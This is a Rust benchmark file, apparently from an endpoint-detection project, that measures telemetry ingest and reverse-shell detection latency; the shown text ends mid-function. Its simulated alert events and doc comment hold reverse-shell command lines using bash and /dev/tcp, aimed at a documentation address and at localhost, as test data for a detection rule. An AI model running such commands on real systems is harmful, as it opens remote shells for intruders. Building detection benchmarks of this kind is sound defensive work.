//! Detection on the live stream, end to end (issue 8). Not part of
//! `make test`; run with
//!
//! ```text
//! cargo build --release --bins          # the latency part runs target/release/zt-agent
//! cargo bench -p zt-e2e --bench detection [-- ingest|latency]
//! ```
//!
//! - **ingest**: K simulated agents (default 8; each a device with its own
//!   certificate, one telemetry stream over gRPC/mTLS) send the same
//!   realistic mixed rows — exec events with argv and ancestry (50 %), TCP
//!   connects (25 %) and file events (25 %), all benign but one reverse
//!   shell every `ZT_BENCH_ALERT_EVERY` events — in 512-event batches, at
//!   most 16 unacknowledged per agent (the agent's defaults), measured three
//!   ways per round: (a) an in-process collector with detection on, (b) the
//!   same with detection off, (c) the raw `clickhouse` crate inserting the
//!   same rows (converted by the collector's `convert_batch`, one task per
//!   table, INSERTs of the collector's default `batch.max_rows`) into a
//!   fresh database. For (a) and (b) the clock runs from the first send to
//!   the last acknowledgement (the collector acknowledges once ClickHouse
//!   stored the rows); for (a) also until the detection task has analysed
//!   every event and ClickHouse shows every alert in `incidents` — the
//!   acknowledgement does not wait for detection (a queue of 1,024 batches
//!   sits between them), so only the second figure holds at a sustained
//!   rate. The stored rows of every table must equal what was sent, and
//!   for (a) the incidents' counts must add up to the reverse shells sent
//!   (and no other rule may fire).
//! - **latency**: the real `zt-agent` (release build, root, eBPF) and an
//!   in-process collector with detection on; N real reverse shells
//!   (`bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1' <marker>`), 50 ms
//!   apart, in a cgroup made for the run, against a listener of this
//!   program that answers `exit` so each shell ends at once (their `HOME`
//!   is an empty directory: no `~/.bashrc` of the machine's). ClickHouse is
//!   polled every 10 ms for the incident of the shells' process tree (the
//!   alerts of one tree join one incident: its `count` grows by one per
//!   shell) and for each shell's exec row; the latency of shell i is the
//!   time from just before its spawn to the first poll whose count
//!   includes it. Run with the agent's uplink `batch_max_delay_ms` at its
//!   default and short, the collector's batch delay default and short.
//!
//! Knobs (environment): `ZT_BENCH_EVENTS` (events per ingest run, default
//! 200000), `ZT_BENCH_SECONDS` (sending budget of an ingest run, default
//! 30), `ZT_BENCH_AGENTS` (default 8), `ZT_BENCH_ALERT_EVERY` (one reverse
//! shell per this many events of an agent, default 5000), `ZT_BENCH_ROUNDS`
//! (rounds of the three ingest runs, default 3), `ZT_BENCH_SHELLS` (reverse
//! shells per latency run, default 100).
//!
//! Everything is bounded: each wait has a timeout and the whole program
//! gives up after 20 minutes. ClickHouse, the agent, the shells, the
//! listener and the cgroup are removed on exit, also on failure.

use std::{
    collections::HashMap,
    net::SocketAddr,
    process::{Child, Command, ExitCode, Stdio},
    sync::{
        atomic::{AtomicUsize, Ordering},
        Arc,
    },
    time::{Duration, Instant, SystemTime},
};

use anyhow::{bail, ensure, Context as _, Result};
use proto::telemetry::{
    event::Kind, AgentIdentity, Ancestor, Event, EventBatch, FileActivity, ProcessExec,
    TcpConnection,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    sync::Barrier,
};
use zt_collector::{
    config::{BatchConfig, ClickHouseConfig, DetectionConfig, IdentityConfig},
    detection::events::{event_id, EventTable},
    ingest::{convert_batch, TableRows},
    storage::{Storage, TableRow},
    CollectorConfig, RunningCollector,
};
use zt_e2e::bench::WINDOW_BATCHES;
use zt_e2e::{
    bench::{drop_database, percentile, unix_ns},
    cgroup::TestCgroup,
    clickhouse::{fresh_database_name, ClickHouseServer},
    process::workspace_binary,
};

/// Events per batch: the agent's `uplink.batch_max_events` default (the
/// window of unacknowledged batches is [`WINDOW_BATCHES`]).
const BATCH_EVENTS: usize = 512;
/// Event time between two events of one simulated agent.
const EVENT_SPACING_NS: u64 = 100_000;
/// The rule the reverse shells raise (detect/rules/process.yaml).
const REVERSE_SHELL_RULE: &str = "reverse-shell-dev-tcp";
/// (agent `uplink.batch_max_delay_ms`, collector `batch.max_delay_ms`);
/// `None` keeps the component's default (250 ms and 200 ms).
const LATENCY_DELAYS_MS: [(Option<u64>, Option<u64>); 3] =
    [(None, None), (None, Some(10)), (Some(10), Some(10))];
const AGENT_DEFAULT_DELAY_MS: u64 = 250;
const SHELL_SPACING: Duration = Duration::from_millis(50);
const POLL_EVERY: Duration = Duration::from_millis(10);
/// How long after the last shell the latency run waits for missing ones.
const LATENCY_GRACE: Duration = Duration::from_secs(30);
/// How long detection may take to catch up after the last acknowledgement.
const ANALYSIS_TIMEOUT: Duration = Duration::from_secs(300);
const WHOLE_RUN_LIMIT: Duration = Duration::from_secs(20 * 60);

/// The collector's allocator (its binary sets the same): the in-process
/// collector is measured as it runs in production.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

fn main() -> ExitCode {
    let part = std::env::args().skip(1).find(|a| !a.starts_with('-'));
    zt_e2e::bench::main("detection", WHOLE_RUN_LIMIT, move || run(part))
}

async fn run(part: Option<String>) -> Result<()> {
    let part = part.as_deref();
    if let Some(p) = part {
        ensure!(
            p == "ingest" || p == "latency",
            "unknown part {p:?}; use `ingest` or `latency`"
        );
    }
    let wants = |name: &str| part.is_none_or(|p| p == name);
    // The latency part's needs, checked before anything runs.
    let agent =
        if wants("latency") {
            // SAFETY: no arguments, cannot fail.
            ensure!(
                unsafe { libc::geteuid() } == 0,
                "the latency part loads eBPF programs and needs root"
            );
            Some(workspace_binary("zt-agent").context(
                "the latency part runs the release agent: `cargo build --release --bins`",
            )?)
        } else {
            None
        };
    let clickhouse = ClickHouseServer::start().await?;
    println!("# detection\n");
    println!("{}\n", zt_e2e::bench::machine_line());
    eprintln!("load average at start: {}", load_average());

    if wants("ingest") {
        let settings = IngestSettings::from_env()?;
        let mut results = Vec::new();
        for round in 1..=settings.rounds {
            let workload = Workload::generate(&settings)?;
            for mode in [Mode::DetectionOn, Mode::DetectionOff, Mode::Raw] {
                let result = match mode {
                    Mode::Raw => raw_run(&clickhouse, &workload, round).await,
                    _ => collector_run(&clickhouse, &workload, mode, settings.budget, round).await,
                }
                .with_context(|| format!("ingest round {round}, {}", mode.label()))?;
                eprintln!("{result:?} (load average {})", load_average());
                results.push(result);
            }
        }
        print_ingest(&settings, &results);
    }
    if let Some(agent) = agent {
        let shells = zt_e2e::bench::env_number("ZT_BENCH_SHELLS", 100usize)?;
        ensure!(shells > 0, "ZT_BENCH_SHELLS must be at least 1");
        let mut results = Vec::new();
        for (agent_delay, collector_delay) in LATENCY_DELAYS_MS {
            let result = latency(&clickhouse, &agent, shells, agent_delay, collector_delay)
                .await
                .with_context(|| {
                    format!("latency run with delays {agent_delay:?}/{collector_delay:?} ms")
                })?;
            eprintln!("{result:?} (load average {})", load_average());
            results.push(result);
        }
        print_latency(&results, shells);
    }
    Ok(())
}

/// An in-process collector with its state (CA, detection snapshot) in
/// `state`, which must outlive it (removed once the run is over).
async fn start_collector(
    clickhouse: &ClickHouseServer,
    database: &str,
    state: &std::path::Path,
    detection: bool,
    max_delay_ms: Option<u64>,
) -> Result<RunningCollector> {
    let config = CollectorConfig {
        listen: SocketAddr::from(([127, 0, 0, 1], 0)),
        clickhouse: ClickHouseConfig {
            url: clickhouse.http_url(),
            database: database.to_owned(),
            startup_timeout_secs: 10,
            ..Default::default()
        },
        batch: BatchConfig {
            max_delay_ms: max_delay_ms.unwrap_or(BatchConfig::default().max_delay_ms),
            ..Default::default()
        },
        identity: IdentityConfig {
            state_dir: state.to_owned(),
            ..Default::default()
        },
        detection: DetectionConfig {
            enabled: detection,
            ..Default::default()
        },
        ..Default::default()
    };
    Ok(zt_collector::start(config).await?)
}

fn collector_state() -> Result<tempfile::TempDir> {
    Ok(tempfile::Builder::new()
        .prefix("zt-bench-collector-")
        .tempdir()?)
}

// -------------------------------------------------------------------- ingest

struct IngestSettings {
    agents: usize,
    events: usize,
    budget: Duration,
    alert_every: usize,
    rounds: usize,
}

impl IngestSettings {
    fn from_env() -> Result<IngestSettings> {
        let settings = IngestSettings {
            agents: zt_e2e::bench::env_number("ZT_BENCH_AGENTS", 8)?,
            events: zt_e2e::bench::env_number("ZT_BENCH_EVENTS", 200_000)?,
            budget: Duration::from_secs(zt_e2e::bench::env_number("ZT_BENCH_SECONDS", 30u64)?),
            alert_every: zt_e2e::bench::env_number("ZT_BENCH_ALERT_EVERY", 5_000)?,
            rounds: zt_e2e::bench::env_number("ZT_BENCH_ROUNDS", 3)?,
        };
        ensure!(
            settings.agents > 0 && settings.events > 0 && settings.rounds > 0,
            "ZT_BENCH_AGENTS, ZT_BENCH_EVENTS and ZT_BENCH_ROUNDS must be at least 1"
        );
        ensure!(
            settings.alert_every > 0,
            "ZT_BENCH_ALERT_EVERY must be at least 1 (incidents must be written)"
        );
        Ok(settings)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    DetectionOn,
    DetectionOff,
    Raw,
}

impl Mode {
    fn label(self) -> &'static str {
        match self {
            Mode::DetectionOn => "(a) collector, detection on",
            Mode::DetectionOff => "(b) collector, detection off",
            Mode::Raw => "(c) raw `clickhouse` crate insert",
        }
    }
}

/// What one batch holds, by table, and what detection should make of it.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
struct Tally {
    events: u64,
    process: u64,
    network: u64,
    file: u64,
    /// Engine events the collector derives from the rows.
    engine_events: u64,
    /// Reverse shells.
    alerts: u64,
}

impl Tally {
    fn add(&mut self, other: &Tally) {
        self.events += other.events;
        self.process += other.process;
        self.network += other.network;
        self.file += other.file;
        self.engine_events += other.engine_events;
        self.alerts += other.alerts;
    }
}

struct AgentLoad {
    org: String,
    device: String,
    batches: Vec<EventBatch>,
    /// By batch: `tallies[batch_seq - 1]`.
    tallies: Vec<Tally>,
}

struct Workload {
    agents: Vec<AgentLoad>,
}

impl Workload {
    /// Every agent's batches, event times ending now (a fresh set per round,
    /// so the engine's clock and the events' agree as on a live stream).
    fn generate(settings: &IngestSettings) -> Result<Workload> {
        let per_agent = settings.events.div_ceil(settings.agents);
        let now_ns = unix_ns(SystemTime::now());
        let first_ns = now_ns - per_agent as u64 * EVENT_SPACING_NS;
        let mut agents = Vec::with_capacity(settings.agents);
        for a in 0..settings.agents {
            let org = format!("bench-org-{}", a % 4);
            let device = format!("bench-device-{a:05}");
            let identity = AgentIdentity {
                org_id: org.clone(),
                device_id: device.clone(),
                hostname: format!("pc-{a:05}.pref.example"),
                boot_id: uuid::Uuid::new_v4().to_string(),
                agent_version: "0.1.0-bench".to_owned(),
            };
            let mut batches = Vec::new();
            let mut tallies = Vec::new();
            for (b, chunk) in (0..per_agent)
                .collect::<Vec<_>>()
                .chunks(BATCH_EVENTS)
                .enumerate()
            {
                let mut alerts = 0;
                let events: Vec<Event> = chunk
                    .iter()
                    .map(|&i| {
                        let alert = (i + 1) % settings.alert_every == 0;
                        alerts += u64::from(alert);
                        mixed_event(a, i as u64, first_ns + i as u64 * EVENT_SPACING_NS, alert)
                    })
                    .collect();
                let batch = EventBatch {
                    batch_seq: b as u64 + 1,
                    agent: Some(identity.clone()),
                    events,
                };
                let converted = convert_batch(batch.agent.as_ref(), &batch.events, unix_secs());
                ensure!(
                    converted.rejected == 0,
                    "the bench's own events are refused: {:?}",
                    converted.first_reason
                );
                let rows = &converted.rows;
                tallies.push(Tally {
                    events: batch.events.len() as u64,
                    process: rows.process_events.len() as u64,
                    network: rows.network_events.len() as u64,
                    file: rows.file_events.len() as u64,
                    engine_events: zt_collector::detection::events::from_rows(rows).len() as u64,
                    alerts,
                });
                batches.push(batch);
            }
            agents.push(AgentLoad {
                org,
                device,
                batches,
                tallies,
            });
        }
        let workload = Workload { agents };
        ensure!(
            workload.total().alerts > 0,
            "no reverse shell among {} events per agent: raise ZT_BENCH_EVENTS or lower \
             ZT_BENCH_ALERT_EVERY ({})",
            per_agent,
            settings.alert_every
        );
        Ok(workload)
    }

    fn total(&self) -> Tally {
        let mut total = Tally::default();
        for tally in self.agents.iter().flat_map(|a| &a.tallies) {
            total.add(tally);
        }
        total
    }
}

/// Programs an office PC runs: (exe, argv); the parent is the user's shell.
const PROGRAMS: [(&str, &[&str]); 6] = [
    (
        "/usr/bin/python3.12",
        &[
            "/usr/bin/python3",
            "-m",
            "pip",
            "install",
            "--requirement=/srv/apps/budget/requirements.txt",
        ],
    ),
    (
        "/usr/bin/git",
        &[
            "git",
            "-C",
            "/home/staff/projects/budget-2025",
            "status",
            "--porcelain=v2",
        ],
    ),
    ("/usr/bin/dash", &["/bin/sh", "-c", "ls -la /tmp | wc -l"]),
    (
        "/usr/lib/firefox/firefox",
        &[
            "/usr/lib/firefox/firefox",
            "-contentproc",
            "-childID",
            "12",
            "-isForBrowser",
            "-prefsLen",
            "31457",
            "tab",
        ],
    ),
    (
        "/usr/bin/grep",
        &[
            "grep",
            "-rn",
            "--include=*.py",
            "TODO",
            "/home/staff/projects",
        ],
    ),
    (
        "/usr/lib/libreoffice/program/soffice.bin",
        &[
            "/usr/lib/libreoffice/program/soffice.bin",
            "--calc",
            "/home/staff/Documents/budget-fy2025.ods",
        ],
    ),
];

/// Programs that connect out: (exe, remote port).
const CONNECTORS: [(&str, u32); 4] = [
    ("/usr/lib/firefox/firefox", 443),
    ("/usr/bin/python3.12", 443),
    ("/usr/lib/git-core/git-remote-https", 443),
    ("/usr/lib/thunderbird/thunderbird", 993),
];

const USER: &str = "staff";
const CGROUP: &str = "/user.slice/user-1000.slice/session-2.scope";
/// A SHA-256 in hex, as the agent sends for executed files.
const EXE_SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

fn ancestor(pid: u32, exe: &str, argv0: &str) -> Ancestor {
    Ancestor {
        pid,
        exe: exe.to_owned(),
        argv0: argv0.to_owned(),
        start_unix_ns: 0,
    }
}

/// The user's terminal: shell, terminal server, `systemd --user`, init.
fn desktop_ancestry() -> Vec<Ancestor> {
    vec![
        ancestor(2_100, "/usr/bin/bash", "bash"),
        ancestor(
            1_800,
            "/usr/libexec/gnome-terminal-server",
            "gnome-terminal-server",
        ),
        ancestor(
            1_200,
            "/usr/lib/systemd/systemd",
            "/usr/lib/systemd/systemd",
        ),
        ancestor(1, "/usr/lib/systemd/systemd", "/sbin/init"),
    ]
}

/// Event `i` of agent `agent`: every `alert_every`-th a reverse shell,
/// else by `i % 20`: 10 execs, 5 TCP connects, 5 file events.
#[allow(clippy::needless_update)]
fn mixed_event(agent: usize, i: u64, time_unix_ns: u64, alert: bool) -> Event {
    let seq = i + 1;
    let pid = 20_000 + (i % 20_000) as u32;
    let kind = if alert {
        // A web application's worker hands a shell to the network; every
        // reverse shell of an agent shares that process tree.
        return Event {
            seq,
            time_unix_ns,
            ancestors: vec![
                ancestor(3_100, "/usr/bin/python3.12", "python3"),
                ancestor(1, "/usr/lib/systemd/systemd", "/sbin/init"),
            ],
            kind: Some(Kind::Exec(ProcessExec {
                pid,
                tid: pid,
                ppid: 3_100,
                uid: 33,
                gid: 33,
                euid: 33,
                egid: 33,
                cgroup_id: 7_700,
                filename: "/usr/bin/bash".to_owned(),
                argv: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
                    .map(str::to_owned)
                    .to_vec(),
                process_start_unix_ns: time_unix_ns,
                exe_sha256: EXE_SHA256.to_owned(),
                user_name: "www-data".to_owned(),
                cgroup_path: "/system.slice/budget-web.service".to_owned(),
                ..Default::default()
            })),
        };
    } else {
        match i % 20 {
            0..=9 => {
                let (exe, argv) = PROGRAMS[(i / 2) as usize % PROGRAMS.len()];
                Kind::Exec(ProcessExec {
                    pid,
                    tid: pid,
                    ppid: 2_100,
                    uid: 1_000,
                    gid: 1_000,
                    euid: 1_000,
                    egid: 1_000,
                    loginuid: Some(1_000),
                    cgroup_id: 8_812,
                    filename: exe.to_owned(),
                    argv: argv.iter().map(|a| (*a).to_owned()).collect(),
                    process_start_unix_ns: time_unix_ns,
                    exe_sha256: EXE_SHA256.to_owned(),
                    user_name: USER.to_owned(),
                    cgroup_path: CGROUP.to_owned(),
                    ..Default::default()
                })
            }
            10..=14 => {
                let (exe, port) = CONNECTORS[(i / 3) as usize % CONNECTORS.len()];
                Kind::Tcp(TcpConnection {
                    action: "connected".to_owned(),
                    // Never the parent of an exec: no connect-then-shell.
                    pid: 40_000 + (i % 1_000) as u32,
                    uid: 1_000,
                    gid: 1_000,
                    cgroup_id: 8_812,
                    ip_version: 4,
                    local_addr: format!("192.0.2.{}", 10 + agent % 200),
                    local_port: 40_000 + (i % 20_000) as u32,
                    remote_addr: format!("198.51.100.{}", i % 250),
                    remote_port: port,
                    exe: exe.to_owned(),
                    user_name: USER.to_owned(),
                    cgroup_path: CGROUP.to_owned(),
                    ..Default::default()
                })
            }
            n => {
                let soffice = "/usr/lib/libreoffice/program/soffice.bin";
                let (action, exe, path, target, flags, mode) = match n {
                    15 | 16 => (
                        "open_write",
                        soffice,
                        format!("/home/staff/Documents/report-{}.ods", i % 100),
                        String::new(),
                        0o1101, // O_WRONLY | O_CREAT | O_TRUNC
                        0o644,
                    ),
                    17 => (
                        "open_read",
                        "/usr/bin/python3.12",
                        "/etc/ssl/certs/ca-certificates.crt".to_owned(),
                        String::new(),
                        0,
                        0,
                    ),
                    18 => (
                        "rename",
                        soffice,
                        format!("/home/staff/Documents/.~lock.report-{}.ods#", i % 100),
                        format!("/home/staff/Documents/report-{}.ods", i % 100),
                        0,
                        0,
                    ),
                    _ => (
                        "unlink",
                        "/usr/bin/rm",
                        format!("/tmp/tmp.{:08x}", i),
                        String::new(),
                        0,
                        0,
                    ),
                };
                Kind::File(FileActivity {
                    action: action.to_owned(),
                    pid,
                    uid: 1_000,
                    gid: 1_000,
                    cgroup_id: 8_812,
                    path,
                    target_path: target,
                    open_flags: flags,
                    mode,
                    exe: exe.to_owned(),
                    user_name: USER.to_owned(),
                    cgroup_path: CGROUP.to_owned(),
                    ..Default::default()
                })
            }
        }
    };
    Event {
        seq,
        time_unix_ns,
        ancestors: desktop_ancestry(),
        kind: Some(kind),
    }
}

#[derive(Debug)]
struct IngestResult {
    round: usize,
    mode: Mode,
    /// What was stored: sent and acknowledged (all of it for the raw run).
    stored: Tally,
    /// First send to last acknowledgement (raw: first to last INSERT).
    acked_after: Duration,
    /// Until detection analysed every event and ClickHouse shows every
    /// alert in `incidents` (= `acked_after` without detection).
    done_after: Duration,
    rows: (u64, u64, u64),
    incidents: u64,
    incident_alerts: u64,
    incident_versions: u64,
}

impl IngestResult {
    fn acked_rate(&self) -> f64 {
        self.stored.events as f64 / self.acked_after.as_secs_f64()
    }

    fn done_rate(&self) -> f64 {
        self.stored.events as f64 / self.done_after.as_secs_f64()
    }
}

#[derive(Debug, clickhouse::Row, serde::Deserialize)]
struct RuleIncidents {
    rule_id: String,
    incidents: u64,
    alerts: u64,
}

async fn incidents_by_rule(client: &clickhouse::Client) -> Result<Vec<RuleIncidents>> {
    client
        .query(
            "SELECT rule_id, toUInt64(count()) AS incidents, toUInt64(sum(count)) AS alerts \
             FROM incidents FINAL GROUP BY rule_id ORDER BY rule_id",
        )
        .fetch_all::<RuleIncidents>()
        .await
        .context("counting the stored incidents")
}

async fn count_rows(client: &clickhouse::Client, table: &str) -> Result<u64> {
    client
        .query(&format!("SELECT count() FROM {table}"))
        .fetch_one::<u64>()
        .await
        .with_context(|| format!("counting the rows of {table}"))
}

async fn table_rows(client: &clickhouse::Client) -> Result<(u64, u64, u64)> {
    Ok((
        count_rows(client, "process_events").await?,
        count_rows(client, "network_events").await?,
        count_rows(client, "file_events").await?,
    ))
}

async fn collector_run(
    clickhouse: &ClickHouseServer,
    workload: &Workload,
    mode: Mode,
    budget: Duration,
    round: usize,
) -> Result<IngestResult> {
    let detection = mode == Mode::DetectionOn;
    let database = fresh_database_name(if detection {
        "bench_detection_on"
    } else {
        "bench_detection_off"
    });
    let state = collector_state()?;
    let collector = start_collector(clickhouse, &database, state.path(), detection, None).await?;
    let url = format!("https://{}", collector.local_addr());
    let client = clickhouse.client().with_database(&database);

    let barrier = Arc::new(Barrier::new(workload.agents.len() + 1));
    let mut tasks = Vec::new();
    for load in &workload.agents {
        let tls = zt_e2e::pki::device_tls(collector.state_dir(), &load.org, &load.device)?;
        let channel = zt_grpc_tls::channel(&url, tls).await?;
        tasks.push(tokio::spawn(zt_e2e::bench::stream_batches(
            channel,
            load.batches.clone(),
            barrier.clone(),
            budget,
        )));
    }
    barrier.wait().await;
    let started = Instant::now();
    let mut stored = Tally::default();
    let mut last_ack = started;
    for (task, load) in tasks.into_iter().zip(&workload.agents) {
        let outcome = task.await.context("agent task panicked")??;
        last_ack = last_ack.max(outcome.last_ack);
        let mut events = 0;
        for (seq, _) in outcome.acks {
            let tally = &load.tallies[seq as usize - 1];
            events += tally.events;
            stored.add(tally);
        }
        ensure!(
            outcome.events_acked == events,
            "the acknowledgements stored {} events, the batches held {events}",
            outcome.events_acked
        );
    }
    let acked_after = last_ack - started;
    let metrics = collector.metrics().clone();

    let mut done_after = acked_after;
    if detection {
        // The acknowledgement waits for storage, not for detection: wait
        // for the analysis, then for the incidents in ClickHouse.
        let deadline = Instant::now() + ANALYSIS_TIMEOUT;
        while metrics.snapshot().detection_events < stored.engine_events {
            ensure!(
                Instant::now() < deadline,
                "detection analysed {} of {} events within {ANALYSIS_TIMEOUT:?} of the last ack",
                metrics.snapshot().detection_events,
                stored.engine_events
            );
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        loop {
            let alerts: u64 = incidents_by_rule(&client)
                .await?
                .iter()
                .map(|r| r.alerts)
                .sum();
            if alerts >= stored.alerts {
                break;
            }
            ensure!(
                Instant::now() < deadline,
                "{alerts} of {} alerts in ClickHouse's incidents within {ANALYSIS_TIMEOUT:?}",
                stored.alerts
            );
            tokio::time::sleep(POLL_EVERY).await;
        }
        done_after = started.elapsed();
    }
    let snapshot = metrics.snapshot();
    collector.shutdown().await?;

    let rows = table_rows(&client).await?;
    ensure!(
        rows == (stored.process, stored.network, stored.file)
            && snapshot.events_stored == stored.events,
        "sent and acknowledged {stored:?}; collector stored {}, ClickHouse holds {rows:?} \
         (process, network, file)",
        snapshot.events_stored
    );
    let by_rule = incidents_by_rule(&client).await?;
    let (incidents, incident_alerts) = by_rule
        .iter()
        .fold((0, 0), |(i, a), r| (i + r.incidents, a + r.alerts));
    if detection {
        ensure!(
            by_rule.iter().all(|r| r.rule_id == REVERSE_SHELL_RULE)
                && incident_alerts == stored.alerts
                && snapshot.alerts_raised == stored.alerts,
            "sent {} reverse shells; the collector raised {} alerts, stored incidents: {by_rule:?}",
            stored.alerts,
            snapshot.alerts_raised
        );
    } else {
        ensure!(
            by_rule.is_empty() && snapshot.alerts_raised == 0,
            "detection is off, yet incidents were stored: {by_rule:?}"
        );
    }
    drop_database(clickhouse, &database).await;
    Ok(IngestResult {
        round,
        mode,
        stored,
        acked_after,
        done_after,
        rows,
        incidents,
        incident_alerts,
        incident_versions: snapshot.incident_versions_stored,
    })
}

async fn raw_run(
    clickhouse: &ClickHouseServer,
    workload: &Workload,
    round: usize,
) -> Result<IngestResult> {
    let database = fresh_database_name("bench_raw_insert");
    // The collector's schema, through its own migrations.
    Storage::new(&ClickHouseConfig {
        url: clickhouse.http_url(),
        database: database.clone(),
        ..Default::default()
    })?
    .migrate()
    .await
    .context("creating the raw run's tables")?;
    let mut rows = TableRows::default();
    let ingested_at = unix_secs();
    for batch in workload.agents.iter().flat_map(|a| &a.batches) {
        let converted = convert_batch(batch.agent.as_ref(), &batch.events, ingested_at).rows;
        rows.process_events.extend(converted.process_events);
        rows.network_events.extend(converted.network_events);
        rows.file_events.extend(converted.file_events);
    }
    let stored = workload.total();
    // As the collector's `Storage` inserts: LZ4, bound to the database.
    let client = clickhouse
        .client()
        .with_database(&database)
        .with_compression(clickhouse::Compression::Lz4);
    let max_rows = BatchConfig::default().max_rows;
    let started = Instant::now();
    let (process, network, file) = tokio::join!(
        insert_in_chunks(&client, &rows.process_events, max_rows),
        insert_in_chunks(&client, &rows.network_events, max_rows),
        insert_in_chunks(&client, &rows.file_events, max_rows),
    );
    process?;
    network?;
    file?;
    let elapsed = started.elapsed();

    let query_client = clickhouse.client().with_database(&database);
    let counted = table_rows(&query_client).await?;
    ensure!(
        counted == (stored.process, stored.network, stored.file),
        "inserted {stored:?}; ClickHouse holds {counted:?} (process, network, file)"
    );
    drop_database(clickhouse, &database).await;
    Ok(IngestResult {
        round,
        mode: Mode::Raw,
        stored,
        acked_after: elapsed,
        done_after: elapsed,
        rows: counted,
        incidents: 0,
        incident_alerts: 0,
        incident_versions: 0,
    })
}

/// One table's rows in INSERTs of at most `chunk` rows, one after another
/// (as the collector's writer of that table does).
async fn insert_in_chunks<R: TableRow>(
    client: &clickhouse::Client,
    rows: &[R],
    chunk: usize,
) -> Result<()> {
    for part in rows.chunks(chunk) {
        let mut insert = client.insert::<R>(R::TABLE)?;
        for row in part {
            insert.write(row).await?;
        }
        insert
            .end()
            .await
            .with_context(|| format!("inserting into {}", R::TABLE))?;
    }
    Ok(())
}

fn median(mut values: Vec<f64>) -> f64 {
    if values.is_empty() {
        return 0.0;
    }
    values.sort_by(f64::total_cmp);
    values[values.len() / 2]
}

fn print_ingest(settings: &IngestSettings, results: &[IngestResult]) {
    println!("## Ingest with detection on, off, and the raw `clickhouse` crate insert\n");
    println!(
        "{} simulated agents (gRPC/mTLS, device certificates), {} events per run or {} s of \
         sending, whichever first; {BATCH_EVENTS}-event batches, ≤ {WINDOW_BATCHES} \
         unacknowledged per agent; 50 % exec (argv, 4 ancestors), 25 % TCP connected, 25 % \
         file events, one reverse shell per {} events of an agent; collector batch.max_rows \
         {}, max_delay_ms {} (defaults). Raw: the same rows, `convert_batch`ed, one task per \
         table, {}-row INSERTs, LZ4.\n",
        settings.agents,
        settings.events,
        settings.budget.as_secs(),
        settings.alert_every,
        BatchConfig::default().max_rows,
        BatchConfig::default().max_delay_ms,
        BatchConfig::default().max_rows,
    );
    println!(
        "| round | run | events | rows process / network / file | incidents (alerts) | \
         s to last ack | s until analysed + incidents stored | events/s (acked) | events/s (analysed) |"
    );
    println!("|---:|---|---:|---:|---:|---:|---:|---:|---:|");
    for r in results {
        let detection = r.mode == Mode::DetectionOn;
        println!(
            "| {} | {} | {} | {} / {} / {} | {} | {:.2} | {} | {:.0} | {} |",
            r.round,
            r.mode.label(),
            r.stored.events,
            r.rows.0,
            r.rows.1,
            r.rows.2,
            if detection {
                format!(
                    "{} ({}; {} versions)",
                    r.incidents, r.incident_alerts, r.incident_versions
                )
            } else {
                "–".to_owned()
            },
            r.acked_after.as_secs_f64(),
            if detection {
                format!("{:.2}", r.done_after.as_secs_f64())
            } else {
                "–".to_owned()
            },
            r.acked_rate(),
            if detection {
                format!("{:.0}", r.done_rate())
            } else {
                "–".to_owned()
            },
        );
    }
    println!();
    let rates = |mode: Mode, done: bool| {
        median(
            results
                .iter()
                .filter(|r| r.mode == mode)
                .map(|r| if done { r.done_rate() } else { r.acked_rate() })
                .collect(),
        )
    };
    let on_acked = rates(Mode::DetectionOn, false);
    let on_done = rates(Mode::DetectionOn, true);
    let off = rates(Mode::DetectionOff, false);
    let raw = rates(Mode::Raw, false);
    println!("Medians over {} rounds:\n", settings.rounds);
    println!("| | events/s | (a) / (c) | (a) / (b) |");
    println!("|---|---:|---:|---:|");
    println!(
        "| (a) detection on, until acked | {on_acked:.0} | {:.0} % | {:.0} % |",
        100.0 * on_acked / raw,
        100.0 * on_acked / off
    );
    println!(
        "| (a) detection on, until analysed + incidents stored | {on_done:.0} | {:.0} % | {:.0} % |",
        100.0 * on_done / raw,
        100.0 * on_done / off
    );
    println!("| (b) detection off | {off:.0} | | |");
    println!("| (c) raw `clickhouse` insert | {raw:.0} | | |");
    println!();
}

// ------------------------------------------------------------------- latency

#[derive(Debug)]
struct LatencyResult {
    agent_delay_ms: Option<u64>,
    collector_delay_ms: Option<u64>,
    shells: usize,
    counted: usize,
    incidents: u64,
    connections: usize,
    p50: Duration,
    p90: Duration,
    p99: Duration,
    max: Duration,
    /// Spawn → the exec row in `process_events`.
    row_p50: Duration,
    row_p99: Duration,
    /// Exec row seen → incident counting it.
    row_to_incident_p50: Duration,
    row_to_incident_max: Duration,
    /// The exec's kernel time → incident counting it.
    kernel_p50: Duration,
    kernel_p99: Duration,
}

#[derive(Debug, clickhouse::Row, serde::Deserialize)]
struct IncidentTally {
    alerts: u64,
    incidents: u64,
}

#[derive(Debug, clickhouse::Row, serde::Deserialize)]
struct MarkerRow {
    marker: String,
    seq: u64,
    time_ns: u64,
}

async fn tally_incidents(client: &clickhouse::Client, tree_root: &str) -> Result<IncidentTally> {
    client
        .query(
            "SELECT toUInt64(sum(count)) AS alerts, toUInt64(count()) AS incidents \
             FROM incidents FINAL WHERE rule_id = ? AND process_tree_root = ?",
        )
        .bind(REVERSE_SHELL_RULE)
        .bind(tree_root)
        .fetch_one::<IncidentTally>()
        .await
        .context("polling ClickHouse for the incident")
}

async fn poll_markers(client: &clickhouse::Client, pattern: &str) -> Result<Vec<MarkerRow>> {
    client
        .query(
            "SELECT argv[4] AS marker, seq, time_ns FROM process_events \
             WHERE event_type = 'exec' AND argv[4] LIKE ?",
        )
        .bind(pattern)
        .fetch_all::<MarkerRow>()
        .await
        .context("polling ClickHouse for the shells' exec rows")
}

/// A listener that tells every shell connecting to it to exit.
struct ShellListener {
    port: u16,
    accepted: Arc<AtomicUsize>,
    task: tokio::task::JoinHandle<()>,
}

impl ShellListener {
    async fn start() -> Result<ShellListener> {
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await?;
        let port = listener.local_addr()?.port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        let task = tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                count.fetch_add(1, Ordering::Relaxed);
